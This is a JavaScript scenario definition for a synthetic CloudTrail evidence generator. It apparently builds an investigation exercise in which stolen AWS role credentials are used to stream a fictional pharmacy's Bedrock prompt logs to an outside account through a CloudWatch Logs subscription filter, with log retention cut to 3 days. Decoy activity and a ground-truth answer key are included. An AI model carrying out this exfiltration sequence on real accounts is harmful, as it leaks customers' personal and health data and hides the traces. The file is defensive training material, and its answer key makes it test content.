// Bedrock prompt logs streamed to an outside account through a CloudWatch Logs subscription.
// Tembusu Health (Singapore online pharmacy, ap-southeast-1) delivers Bedrock model-invocation
// logs to S3 and to the CloudWatch log group /tembusu/bedrock/invocations; every prompt and answer
// of the pharmacy assistant Mei is in it (customers' names, phone numbers, NRIC numbers,
// prescriptions and conditions). Platform engineers reach operations work through the role
// tembusu-platform-ops, which they assume from their IAM Identity Center CLI sessions; the CLI
// caches those role credentials (12-hour sessions) on the laptop.
//
// Incident: on 17 March an infostealer on platform engineer A's laptop takes the cached
// tembusu-platform-ops credentials he obtained at 14:10 SGT for the monthly log-group housekeeping.
// At 23:52 SGT the same access key is used from a hosting address with boto3: the actor checks the
// identity, the Bedrock logging configuration and the invocation log group, reads a page of
// prompts with FilterLogEvents, tries to subscribe the group directly to a Firehose stream of
// another account (rejected), then adds a second subscription filter named like an archive feed
// whose destination is a CloudWatch Logs destination in account 739201586604 (not the
// organisation's), checks it, and cuts the group's retention from 400 to 3 days. From then on
// every invocation log line of the assistant streams to that account until the security team
// removes the filter the next morning.
//
// Decoys: the security team's planned subscription of the same log group (and the chatbot Lambda's
// group) to the organisation's own SIEM destination in the security account, made that morning
// by another platform engineer through the same role (ticketed, with the destination ARN in the
// calendar); engineer A's own monthly log-group housekeeping with the very session that is later
// stolen (PutRetentionPolicy shortening Lambda groups to 30 days, DeleteLogGroup on stale groups,
// TagResource, DescribeSubscriptionFilters), from the office; his own evening look at a Lambda log
// group with the same key from home; the next morning's clean-up (DeleteSubscriptionFilter,
// PutRetentionPolicy back to 400 days, session revocation) by the platform and security teams.

import { C, defineScenario, HOUR, isoSec, MIN, UA } from '../../../shared/tools/evidence-gen/lib.mjs';
import { TEMBUSU, TEMBUSU_SECURITY } from './_worlds-p.mjs';

const VPS = '185.243.218.41'; // hosting provider, never seen before
const OUTSIDE = '739201586604'; // the actor's account
const OUT_DEST = `arn:aws:logs:ap-southeast-1:${OUTSIDE}:destination:ops-log-archive`;
const OUT_FIREHOSE = `arn:aws:firehose:ap-southeast-1:${OUTSIDE}:deliverystream/ops-log-archive`;
const SIEM_DEST = `arn:aws:logs:ap-southeast-1:${TEMBUSU_SECURITY}:destination:tembusu-siem-bedrock`;
const SIEM_DEST_LAMBDA = `arn:aws:logs:ap-southeast-1:${TEMBUSU_SECURITY}:destination:tembusu-siem-lambda`;

// CloudWatch Logs APIs the generator's catalogue lacks: the facts CloudTrail records about them.
const logsApi = (name, params, { readOnly, response = null, scope, error } = {}) => ({
  api: `logs:${name}`,
  entry: {
    key: `logs:${name}`,
    service: 'logs',
    source: 'logs.amazonaws.com',
    name,
    readOnly: readOnly ?? /^(Describe|Get|List|Filter)/.test(name),
    data: false,
    ver: '1.08',
    global: false,
    host: (r) => `logs.${r}.amazonaws.com`,
    iamAction: `logs:${name}`,
  },
  params,
  response,
  scope,
  error,
});

export default defineScenario({
  name: 'log-subscription-exfil',
  seed: 'fresh-p/log-subscription-exfil/v1',
  start: '2026-03-17T00:00:00Z',
  days: 2,
  world: TEMBUSU,
  background: {
    intensity: 1.0,
    chatbot: { conversationsPerHour: 55 },
    agent: { sessionsPerHour: 4 },
    ops: { events: [], random: 1 },
  },
  alert:
    'On the morning of 18 March the AWS Config rule cw-loggroup-retention-period-check marked the CloudWatch log group /tembusu/bedrock/invocations (Bedrock model-invocation logs of the Mei pharmacy assistant) non-compliant: its retention is now below 365 days. The platform team ran its monthly log-group housekeeping on 17 March and the security team connected the Bedrock logs to the SIEM the same day. Find out whether anything else happened to these logs.',
  truth: {
    description:
      "The cached tembusu-platform-ops role credentials of a platform engineer (assumed at 14:10 SGT on 17 March from his Identity Center CLI session for 12 hours, used by him for the monthly log-group housekeeping) were stolen from his laptop. At 23:52 SGT (15:52 UTC) the same access key was used from a hosting address (185.243.218.41) with boto3 instead of his AWS CLI: GetCallerIdentity, GetModelInvocationLoggingConfiguration, DescribeLogGroups and DescribeSubscriptionFilters on /tembusu/bedrock/invocations, two FilterLogEvents pages of that group (prompts and answers with customers' personal and health data), a PutSubscriptionFilter to a Firehose delivery stream of account 739201586604 that was rejected, then PutSubscriptionFilter 'bedrock-invocations-archive' with an empty filter pattern to the CloudWatch Logs destination arn:aws:logs:ap-southeast-1:739201586604:destination:ops-log-archive (an account the organisation does not own; no ticket), a check of the filters, and PutRetentionPolicy of 3 days on the group (it was 400). From 23:55 SGT until the filter was deleted at about 09:50 SGT on 18 March every invocation log line of the Mei assistant (customers' names, contact details, NRIC numbers, prescriptions and conditions) streamed to that account: personal data left the organisation. The security team's ticketed SIEM subscriptions to the security account's destinations (271946385012), the engineer's own housekeeping (30-day retention on Lambda groups, deletion of stale groups, tags) and evening reads with the same key from his home address, and the next morning's clean-up are legitimate.",
    elements: ['access', 'infrastructure-changes', 'private-data'],
    components: ['foundation-models'],
  },
  incident(sim, { rng, at, world, actors }) {
    const w = world;
    const acct = w.account.id;
    const home = w.homeRegion;
    const group = `/${w.company.slug}/bedrock/invocations`;
    const chatGroup = `/aws/lambda/${w.res.functions.chatbot.name}`;
    const ops = w.roles.platformOps;
    ops.maxSession = 43200;
    ops.attached.push(
      'arn:aws:iam::aws:policy/CloudWatchLogsFullAccess',
      'arn:aws:iam::aws:policy/ReadOnlyAccess',
    );
    ops.trust = {
      Version: '2012-10-17',
      Statement: [
        {
          Effect: 'Allow',
          Principal: { AWS: `arn:aws:iam::${acct}:root` },
          Action: 'sts:AssumeRole',
          Condition: {
            ArnLike: {
              'aws:PrincipalArn': [
                `arn:aws:iam::${acct}:role/aws-reserved/sso.amazonaws.com/${w.sso.region}/AWSReservedSSO_AdministratorAccess_*`,
                `arn:aws:iam::${acct}:role/aws-reserved/sso.amazonaws.com/${w.sso.region}/AWSReservedSSO_PowerUserAccess_*`,
              ],
            },
          },
        },
      ],
    };
    const staff = actors.staff;
    const platform = w.people.filter((p) => p.team === 'platform');
    const engA = platform.find((p) => p.permissionSet === 'power') ?? platform[0];
    const engB = platform.find((p) => p !== engA) ?? platform[0];
    const sec = w.people.find((p) => p.team === 'security');
    for (const p of [engA, engB, sec]) {
      p.travelDay = null;
      p.commercialVpn = null;
    }
    engA.remoteShare = 0.1;

    // engineer assumes the ops role from his SSO CLI session
    const assumeOps = (r, p, t, ip, duration = 3600) => {
      const sso = staff.session(p, t - r.int(60, 300) * 1000, ip, true);
      const key = r.iamId('ASIA');
      sim.call(r, t, sso, C.assumeRole(r, ops, p.username, key, t, { duration, region: home }));
      return sim.roleSession(ops, p.username, {
        ip,
        userAgent: staff.clients(p, t).cli,
        accessKeyId: key,
        created: t,
        rng: r,
      });
    };

    // ---- decoy: the planned SIEM subscriptions (security account destinations) ---------------
    {
      const r = rng.fork('siem');
      const t0 = at('2026-03-17T02:05:00Z'); // 10:05 SGT
      sim.planChange({
        ticket: 'SEC-2231',
        window: { start: isoSec(t0 - 20 * MIN), end: isoSec(t0 + 90 * MIN) },
        owner: sec.email,
        summary: `SIEM onboarding of Bedrock logs: subscription filter siem-bedrock-invocations on ${group} to ${SIEM_DEST}, and siem-lambda-chatbot on ${chatGroup} to ${SIEM_DEST_LAMBDA} (security account ${TEMBUSU_SECURITY}); applied by platform (${engB.email})`,
      });
      sim.tag({ decoy: true }, () => {
        const s = assumeOps(r, engB, t0, w.net.office[0]);
        let t = t0;
        const step = (call, a = 3, b = 25) => sim.call(r, (t += r.int(a, b) * 1000), s, call);
        step(C.getCallerIdentity());
        step(logsApi('DescribeLogGroups', { logGroupNamePrefix: `/${w.company.slug}/bedrock` }));
        step(logsApi('DescribeSubscriptionFilters', { logGroupName: group }));
        step(
          logsApi('PutSubscriptionFilter', {
            logGroupName: group,
            filterName: 'siem-bedrock-invocations',
            filterPattern: '',
            destinationArn: SIEM_DEST,
          }),
          20,
          90,
        );
        step(logsApi('DescribeSubscriptionFilters', { logGroupName: group }));
        step(logsApi('DescribeSubscriptionFilters', { logGroupName: chatGroup }));
        step(
          logsApi('PutSubscriptionFilter', {
            logGroupName: chatGroup,
            filterName: 'siem-lambda-chatbot',
            filterPattern: '',
            destinationArn: SIEM_DEST_LAMBDA,
          }),
          20,
          90,
        );
        step(logsApi('DescribeSubscriptionFilters', { logGroupName: chatGroup }));
      });
    }

    // ---- engineer A's housekeeping with the 12-hour ops session (later stolen) -----------------
    const hk = rng.fork('housekeeping');
    const hkStart = at('2026-03-17T06:10:00Z'); // 14:10 SGT
    const opsA = assumeOps(hk, engA, hkStart, w.net.office[1], 43200);
    const stale = [
      `/aws/lambda/${w.company.slug}-chatbot-api-canary`,
      `/aws/lambda/${w.company.slug}-promo-banner-2025`,
    ];
    sim.planChange({
      ticket: 'OPS-0412',
      window: { start: isoSec(hkStart - 10 * MIN), end: isoSec(hkStart + 3 * HOUR) },
      owner: engA.email,
      summary: `Standard change (monthly): log-group hygiene in ${home}: 30-day retention on /aws/lambda/* groups, delete stale groups (${stale.join(', ')}), owner tags, inventory of subscription filters. /${w.company.slug}/bedrock/* is out of scope (security-owned, 400 days)`,
    });
    sim.tag({ decoy: true }, () => {
      let t = hkStart;
      const step = (call, a = 2, b = 12) => sim.call(hk, (t += hk.int(a, b) * 1000), opsA, call);
      step(C.getCallerIdentity());
      step(logsApi('DescribeLogGroups', { limit: 50 }));
      step(logsApi('DescribeLogGroups', { limit: 50, nextToken: hk.base62(60) }));
      const lambdaGroups = w.res.logGroups.filter((g) => g.startsWith('/aws/lambda/'));
      for (const g of lambdaGroups) {
        step(logsApi('DescribeSubscriptionFilters', { logGroupName: g }));
        step(logsApi('DescribeMetricFilters', { logGroupName: g }));
        step(logsApi('PutRetentionPolicy', { logGroupName: g, retentionInDays: 30 }));
        step(
          logsApi('TagResource', {
            resourceArn: `arn:aws:logs:${home}:${acct}:log-group:${g}`,
            tags: { owner: 'platform', 'cost-centre': 'cc-ops-114' },
          }),
        );
      }
      for (const g of stale) {
        step(
          logsApi('DescribeLogStreams', {
            logGroupName: g,
            orderBy: 'LastEventTime',
            descending: true,
            limit: 1,
          }),
          10,
          40,
        );
        step(logsApi('DeleteLogGroup', { logGroupName: g }));
      }
      step(logsApi('DescribeSubscriptionFilters', { logGroupName: group }));
      step(logsApi('DescribeLogGroups', { logGroupNamePrefix: `/${w.company.slug}/` }));
      // later in the afternoon: CloudWatch alarms and a Lambda log search
      t = hkStart + hk.int(90, 140) * MIN;
      step(C.call('cloudwatch:DescribeAlarms', { maxRecords: 100 }));
      step(
        logsApi('FilterLogEvents', {
          logGroupName: chatGroup,
          filterPattern: 'ERROR',
          startTime: t - 3 * HOUR,
          limit: 100,
        }),
      );
    });
    // his own evening look from home with the same cached key
    sim.tag({ decoy: true }, () => {
      const r = rng.fork('evening');
      let t = at('2026-03-17T11:34:00Z'); // 19:34 SGT
      const s = opsA.with({ ip: engA.home[0] });
      sim.call(r, t, s, C.call('cloudwatch:DescribeAlarms', { stateValue: 'ALARM', maxRecords: 100 }));
      sim.call(
        r,
        (t += r.int(20, 60) * 1000),
        s,
        logsApi('DescribeLogStreams', {
          logGroupName: chatGroup,
          orderBy: 'LastEventTime',
          descending: true,
          limit: 5,
        }),
      );
      sim.call(
        r,
        (t += r.int(5, 30) * 1000),
        s,
        logsApi('FilterLogEvents', {
          logGroupName: chatGroup,
          filterPattern: '"Task timed out"',
          startTime: t - 2 * HOUR,
          limit: 100,
        }),
      );
      sim.call(
        r,
        (t += r.int(5, 30) * 1000),
        s,
        logsApi('FilterLogEvents', {
          logGroupName: chatGroup,
          filterPattern: '"Task timed out"',
          startTime: t - 6 * HOUR,
          limit: 100,
        }),
      );
    });

    // ---- the actor: the same ops session key from a VPS ----------------------------------------
    const s = sim.threat(
      opsA.with({ ip: VPS, userAgent: UA.boto3(rng.fork('ua'), { family: 'ubuntu' }), tags: null }),
    );
    let t = at('2026-03-17T15:52:18Z'); // 23:52 SGT
    const step = (call, a = 2, b = 15) => sim.call(rng, (t += rng.int(a, b) * 1000), s, call);
    step({ ...C.getCallerIdentity(), key: true });
    step({ ...C.bedrock('GetModelInvocationLoggingConfiguration'), key: true });
    step(logsApi('DescribeLogGroups', { logGroupNamePrefix: `/${w.company.slug}/bedrock` }));
    step({ ...logsApi('DescribeSubscriptionFilters', { logGroupName: group }), key: true });
    step(
      logsApi('DescribeLogStreams', {
        logGroupName: group,
        orderBy: 'LastEventTime',
        descending: true,
        limit: 5,
      }),
    );
    step({
      ...logsApi(
        'FilterLogEvents',
        { logGroupName: group, startTime: t - 2 * HOUR, limit: 50 },
        { scope: [group] },
      ),
      key: true,
    });
    step(
      logsApi(
        'FilterLogEvents',
        { logGroupName: group, startTime: t - 2 * HOUR, limit: 50, nextToken: rng.base62(80) },
        { scope: [group] },
      ),
    );
    step(
      logsApi(
        'PutSubscriptionFilter',
        {
          logGroupName: group,
          filterName: 'bedrock-invocations-archive',
          filterPattern: '',
          destinationArn: OUT_FIREHOSE,
        },
        {
          readOnly: false,
          error: {
            code: 'InvalidParameterException',
            message:
              'Could not deliver test message to specified Firehose stream. Check if the given Firehose stream is in ACTIVE state.',
          },
        },
      ),
      30,
      120,
    );
    step(
      {
        ...logsApi(
          'PutSubscriptionFilter',
          {
            logGroupName: group,
            filterName: 'bedrock-invocations-archive',
            filterPattern: '',
            destinationArn: OUT_DEST,
          },
          { scope: [group, OUT_DEST] },
        ),
        key: true,
      },
      60,
      240,
    );
    const subscribed = t;
    step(logsApi('DescribeSubscriptionFilters', { logGroupName: group }));
    step(
      {
        ...logsApi('PutRetentionPolicy', { logGroupName: group, retentionInDays: 3 }, { scope: [group] }),
        key: true,
      },
      10,
      40,
    );
    step(logsApi('DescribeLogGroups', { logGroupNamePrefix: `/${w.company.slug}/bedrock` }));

    // ---- next morning: detection and clean-up (legitimate) -------------------------------------
    {
      const r = rng.fork('cleanup');
      const t0 = at('2026-03-18T01:20:00Z'); // 09:20 SGT
      const secS = staff.session(sec, t0, w.net.office[0], true);
      let tc = t0;
      sim.tag({ decoy: true }, () => {
        sim.call(r, tc, secS, C.getCallerIdentity());
        sim.call(
          r,
          (tc += r.int(10, 40) * 1000),
          secS,
          logsApi('DescribeLogGroups', { logGroupNamePrefix: `/${w.company.slug}/bedrock` }),
        );
        sim.call(
          r,
          (tc += r.int(10, 40) * 1000),
          secS,
          logsApi('DescribeSubscriptionFilters', { logGroupName: group }),
        );
        sim.call(
          r,
          (tc += r.int(60, 300) * 1000),
          secS,
          C.call('cloudtrail:LookupEvents', {
            lookupAttributes: [{ attributeKey: 'EventName', attributeValue: 'PutSubscriptionFilter' }],
            maxResults: 50,
          }),
        );
        tc += r.int(15, 25) * MIN;
        const fix = assumeOps(r, engB, tc, w.net.office[0]);
        sim.call(
          r,
          (tc += r.int(10, 30) * 1000),
          fix,
          logsApi('DeleteSubscriptionFilter', {
            logGroupName: group,
            filterName: 'bedrock-invocations-archive',
          }),
        );
        sim.call(
          r,
          (tc += r.int(10, 30) * 1000),
          fix,
          logsApi('PutRetentionPolicy', { logGroupName: group, retentionInDays: 400 }),
        );
        sim.call(
          r,
          (tc += r.int(10, 30) * 1000),
          fix,
          logsApi('DescribeSubscriptionFilters', { logGroupName: group }),
        );
        const adminS = staff.session(engB, tc, w.net.office[0], true);
        sim.call(
          r,
          (tc += r.int(60, 180) * 1000),
          adminS,
          C.iamPutRolePolicy(ops, 'AWSRevokeOlderSessions', {
            Version: '2012-10-17',
            Statement: [
              {
                Effect: 'Deny',
                Action: ['*'],
                Resource: ['*'],
                Condition: { DateLessThan: { 'aws:TokenIssueTime': isoSec(tc) } },
              },
            ],
          }),
        );
      });
      void subscribed;
    }
  },
});
